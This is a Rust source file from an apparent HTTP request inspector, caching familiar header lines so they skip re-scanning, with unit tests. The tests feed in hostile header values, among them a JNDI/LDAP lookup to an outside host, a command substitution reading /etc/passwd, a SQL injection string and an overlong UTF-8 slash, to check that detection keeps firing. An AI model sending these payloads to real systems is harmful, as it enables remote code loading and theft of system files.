//! Header lines that came before and in which there was nothing: most clients send the same agent,
//! the same origin and the same languages, request after request.
//!
//! A line is known by all of its bytes, so that nothing can be taken for it. It is learned when it
//! comes a second time in its slot, so that lines that come once displace none.

use super::{Sink, Visitor};

/// Slots; a power of two. With their texts they take some 32 KiB a thread.
const SLOTS: usize = 128;
/// Longest line that is kept. Units: bytes.
const LONGEST: usize = 232;
/// Shorter ones are read as fast.
const SHORTEST: usize = 16;

#[derive(Clone)]
struct Slot {
    /// The hash of the line that came last and is not the one that is kept.
    candidate: u64,
    length: u8,
    /// Values that the line holds.
    values: u8,
    text: [u8; LONGEST],
}

const EMPTY: Slot = Slot {
    candidate: 0,
    length: 0,
    values: 0,
    text: [0; LONGEST],
};

/// The lines that are known.
#[derive(Default)]
pub struct Familiar {
    slots: Vec<Slot>,
}

impl Familiar {
    /// Has `read` read a line, unless nothing was in it before.
    /// Cost: a hash of a few of its bytes and, for a line that is known, a comparison.
    #[inline]
    pub fn pass_or<'s, V: Visitor>(
        &mut self,
        sink: &mut Sink<'s, V>,
        line: &[u8],
        read: impl FnOnce(&mut Sink<'s, V>),
    ) {
        let apt = (SHORTEST..=LONGEST).contains(&line.len()) && !sink.odd;
        let Some(before) = sink.noted().filter(|_| apt) else {
            return read(sink);
        };
        let hash = hash(line);
        if let Some(slot) = self.slots.get_mut(hash as usize % SLOTS) {
            if slot.text[..usize::from(slot.length)] == *line {
                if sink.room.admit(u32::from(slot.values), line.len()) {
                    slot.candidate = 0;
                    return;
                }
            } else if slot.candidate != hash {
                slot.candidate = hash;
                return read(sink);
            }
        }
        let (values, gaps) = (sink.values(), sink.gaps);
        read(sink);
        if sink.noted() == Some(before) && sink.gaps == gaps {
            self.learn(hash, line, sink.values() - values);
        }
    }

    #[inline(never)]
    fn learn(&mut self, hash: u64, line: &[u8], values: u32) {
        if self.slots.is_empty() {
            self.slots = vec![EMPTY; SLOTS];
        }
        let (Ok(length), Ok(values)) = (u8::try_from(line.len()), u8::try_from(values)) else {
            return;
        };
        if let Some(slot) = self.slots.get_mut(hash as usize % SLOTS) {
            (slot.length, slot.values, slot.candidate) = (length, values, 0);
            slot.text[..line.len()].copy_from_slice(line);
        }
    }
}

/// Hashes a line's length, and its bytes at four places: agents differ somewhere in their middle.
fn hash(line: &[u8]) -> u64 {
    let word = |at: usize| match line.get(at..).and_then(|rest| rest.first_chunk()) {
        Some(bytes) => u64::from_le_bytes(*bytes),
        None => 0,
    };
    let last = line.len() - 8;
    let places = [0, last / 2, last - last / 4, last];
    let mixed = places.iter().fold(line.len() as u64, |mixed, at| {
        (mixed ^ word(*at))
            .wrapping_mul(0x9e37_79b9_7f4a_7c15)
            .rotate_left(29)
    });
    mixed.max(1)
}

#[cfg(test)]
mod tests {
    use crate::inspect::{Family, Findings, Inspector};
    use crate::request::Request;

    fn inspect(inspector: &Inspector, headers: &[u8]) -> Findings {
        let request = Request {
            method: b"GET",
            path: b"/a",
            headers,
            ..Request::default()
        };
        let mut found = Findings::default();
        inspector.inspect(&request, &mut found);
        found
    }

    const CLEAN: &[u8] =
        b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0 Safari/537.36\r\n\
        Referer: https://app.example.com/dashboard?tab=orders&q=blue+shoes\r\n\
        X-Client: checkout, version 3 (stable)\r\n";

    #[test]
    fn a_familiar_line_counts_as_before() {
        let inspector = Inspector::new(&Family::ALL);
        let first = inspect(&inspector, CLEAN);
        assert!(first.list.is_empty() && first.values > 3, "{first:?}");
        for _ in 0..4 {
            let again = inspect(&inspector, CLEAN);
            assert!(again.list.is_empty(), "{again:?}");
            assert_eq!(again.values, first.values);
        }
        assert!(inspect(&inspector, CLEAN).steps < first.steps);
    }

    #[test]
    fn what_speaks_speaks_each_time() {
        let all = Inspector::new(&Family::ALL);
        let few = Inspector::new(&[Family::Xss]);
        for line in [
            &b"User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n"[..],
            b"X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n",
            b"Referer: https://a.example/?q=1%27%20or%20%271%27=%271\r\n",
            b"X-Client: checkout, $(cat /etc/passwd)\r\n",
        ] {
            for _ in 0..3 {
                inspect(&few, line);
                inspect(&all, CLEAN);
            }
            let shown = String::from_utf8_lossy(line);
            let found = |headers| inspect(&all, headers).list.len();
            let first = found(line);
            assert!(first > 0, "{shown}");
            for _ in 0..4 {
                assert_eq!(found(line), first, "{shown}");
                assert_eq!(found(CLEAN), 0);
            }
        }
    }

    #[test]
    fn overlong_spellings_elsewhere_have_all_lines_read() {
        let inspector = Inspector::new(&Family::ALL);
        for _ in 0..4 {
            inspect(&inspector, CLEAN);
        }
        let odd = [CLEAN, b"X-Odd: \xc0\xaf\r\n"].concat();
        let steps = inspect(&inspector, &odd).steps;
        assert!(steps > inspect(&inspector, CLEAN).steps);
    }
}
